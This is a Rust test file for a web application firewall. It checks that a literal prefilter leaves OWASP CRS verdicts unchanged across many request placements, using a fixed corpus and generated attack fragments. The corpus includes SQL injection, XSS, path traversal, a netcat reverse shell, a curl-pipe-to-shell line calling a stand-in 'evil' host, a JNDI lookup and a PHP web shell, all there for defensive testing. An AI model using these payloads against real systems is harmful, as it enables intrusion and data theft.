//! The literal prefilter skips rules that cannot match; it must never change a verdict.
//! Each request here is evaluated twice against the same compiled CRS (paranoia levels 1
//! and 4, plain and behind a prompt-field policy), with the prefilter on and off, and the
//! whole outcomes must be equal: matched rules with their variables and values, the TX
//! collection (anomaly scores), the intervention.

use chatgate_seclang::{FileSystem, LoadOptions, Outcome, Request, RuleSet};
use proptest::prelude::*;

#[path = "support/request.rs"]
mod support_request;
use support_request::request;

const CRS_ENTRY: &str = "/usr/share/modsecurity-crs/owasp-crs.load";

fn load(extra: &str) -> RuleSet {
    let text = format!("{extra}\nInclude {CRS_ENTRY}\n");
    RuleSet::from_text(
        &FileSystem,
        "/test/prefilter.conf",
        &text,
        LoadOptions {
            skip_unsupported: true,
        },
    )
    .unwrap_or_else(|e| panic!("CRS does not load ({e}): install Debian's modsecurity-crs"))
}

fn paranoia(level: u8) -> String {
    format!("SecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level={level}\"")
}

/// A prompt-field policy in the shape the issue asks for.
const POLICY: &str = r#"SecAction "id:1000,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:/^json\.messages\.\d+\.content$/,ctl:ruleRemoveTargetByTag=attack-xss;ARGS:/^json\.messages\.\d+\.content$/,ctl:ruleRemoveTargetByTag=attack-rce;ARGS:/^json\.messages\.\d+\.content$/""#;

fn rule_sets() -> Vec<(String, RuleSet)> {
    vec![
        ("PL1".into(), load(&paranoia(1))),
        ("PL4".into(), load(&paranoia(4))),
        (
            "PL2 + policy".into(),
            load(&format!("{}\n{POLICY}", paranoia(2))),
        ),
    ]
}

fn same(rules: &mut RuleSet, r: &Request) -> Result<(), String> {
    rules.set_prefilter(true);
    let with = rules.evaluate(r);
    rules.set_prefilter(false);
    let without = rules.evaluate(r);
    rules.set_prefilter(true);
    let key = |o: &Outcome| {
        (
            o.mode,
            o.intervention.clone(),
            o.matches.clone(),
            o.tx.clone(),
            o.body_error.clone(),
        )
    };
    if key(&with) == key(&without) {
        Ok(())
    } else {
        Err(format!(
            "{} {} {:?}\nwith the prefilter:    {:?} score {:?}\nwithout the prefilter: {:?} score {:?}",
            r.method,
            r.uri,
            String::from_utf8_lossy(&r.body),
            with.matched_ids(),
            with.tx("anomaly_score"),
            without.matched_ids(),
            without.tx("anomaly_score"),
        ))
    }
}

/// Attacks of every CRS family, encoded in the ways its transformations undo, and benign
/// look-alikes.
const PAYLOADS: &[&str] = &[
    "1' OR '1'='1",
    "1 AND sleep(5)",
    "x' UNION SELECT password FROM users--",
    "1;DROP TABLE users",
    "admin'/**/oR/**/1=1#",
    "%27%20UnIoN%20SeLeCt%201,2,3--",
    "<script>alert(1)</script>",
    "<ScRiPt >prompt(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ealert(1)",
    "%3Csvg%20onload%3Dalert(1)%3E",
    "../../../../etc/passwd",
    // Restricted files (930130 reads `REQUEST_FILENAME`, whose value here equals
    // `REQUEST_URI`'s, scanned with another automaton).
    ".htaccess",
    ".git/config",
    "..%2f..%2f..%2fetc%2fshadow",
    "..\\..\\windows\\win.ini",
    ";cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil/x.sh|sh)",
    "`id`",
    "c^at /e\"tc/pa's'swd",
    "powershell -enc ZQBjAGgAbwA=",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "${jndi:ldap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "require('child_process').exec('id')",
    "http://169.254.169.254/latest/meta-data/",
    "http://evil.example/shell.txt?",
    "JSESSIONID=abc; path=/",
    "foo\r\nSet-Cookie: a=b",
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
    "{{7*7}}",
    "%00",
    "%u0027%u0020or%u00201=1",
    "How do I sort SELECT name FROM a UNION ALL SELECT name FROM b?",
    "What's the difference between <script defer> and <script async>?",
    "chmod 600 /etc/passwd — is that safe?",
    "Use WAITFOR DELAY '00:00:05' in T-SQL",
    "onClick={() => setCount(count + 1)}",
    "plain prose about retrieval indexes and markdown files",
    "",
    "ÄÖÜ façade naïve 日本語",
];

fn placements(payload: &str) -> Vec<Request> {
    let encoded: String = payload
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    let json_string = serde_like_escape(payload);
    vec![
        request("GET", &format!("/search?q={encoded}&page=2"), &[], ""),
        request("GET", &format!("/files/{encoded}"), &[], ""),
        request(
            "POST",
            "/v1/chat/completions",
            &[("Content-Type", "application/json")],
            &format!(r#"{{"model":"m","messages":[{{"role":"user","content":"{json_string}"}}]}}"#),
        ),
        request(
            "POST",
            "/v1/chat/completions",
            &[("Content-Type", "application/json")],
            &format!(
                r#"{{"model":"{json_string}","messages":[{{"role":"user","content":"hi"}}]}}"#
            ),
        ),
        request(
            "POST",
            "/form",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            &format!("a=1&{encoded}={encoded}"),
        ),
        // The raw payload as the whole form body: the body (scanned with the smaller
        // automaton of `REQUEST_BODY`'s factors) and an argument name of the same content.
        request(
            "POST",
            "/form",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            payload,
        ),
        request("GET", "/", &[("Cookie", &format!("session={encoded}"))], ""),
        request(
            "GET",
            "/",
            &[("Referer", payload), ("X-Custom", payload)],
            "",
        ),
        request("GET", "/", &[("User-Agent", payload)], ""),
        request(
            "POST",
            "/xml",
            &[("Content-Type", "text/xml")],
            &format!("<a x=\"{encoded}\">{encoded}</a>"),
        ),
    ]
}

fn serde_like_escape(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\r' => out.push_str("\\r"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out
}

#[test]
fn prefilter_changes_no_verdict_on_known_attacks_and_look_alikes() {
    let mut failures = Vec::new();
    let mut blocked = 0;
    let mut total = 0;
    for (name, mut rules) in rule_sets() {
        for payload in PAYLOADS {
            for r in placements(payload) {
                total += 1;
                if rules.evaluate(&r).blocking().is_some() {
                    blocked += 1;
                }
                if let Err(e) = same(&mut rules, &r) {
                    failures.push(format!("{name}: {e}"));
                }
            }
        }
    }
    // The corpus must exercise the rules, not only pass through them.
    assert!(blocked * 3 > total, "only {blocked} of {total} blocked");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Pieces attacks are made of, joined at random.
fn fragment() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "select", "UNION", " ", "%20", "'", "\"", "--", "/*", "*/", "#", "<", ">", "script", "on",
        "error=", "alert(", ")", "../", "..\\", "/etc/", "passwd", ";", "|", "`", "$(", "${",
        "jndi:", "php", "<?", "=", "&#", "x3c;", "\\u00", "%u", "%2e", "%00", "cmd", "exec",
        "eval(", "http://", "sleep(", "1=1", "or ", "and ", "&&", "\r\n", "A", "9", "é", "\t", "+",
        "sh", "ls", "wget", "from", "where", "char(",
    ])
    .prop_map(str::to_owned)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn prefilter_changes_no_verdict_on_generated_attacks(
        pieces in prop::collection::vec(fragment(), 1..12),
        place in 0usize..9,
    ) {
        // Loaded once per process: CRS takes a while to compile.
        static RULES: std::sync::OnceLock<std::sync::Mutex<Vec<(String, RuleSet)>>> =
            std::sync::OnceLock::new();
        let sets = RULES.get_or_init(|| std::sync::Mutex::new(rule_sets()));
        let mut sets = sets.lock().unwrap_or_else(|e| e.into_inner());
        let payload = pieces.concat();
        let r = placements(&payload).swap_remove(place);
        for (name, rules) in sets.iter_mut() {
            if let Err(e) = same(rules, &r) {
                prop_assert!(false, "{name}: {e}");
            }
        }
    }
}
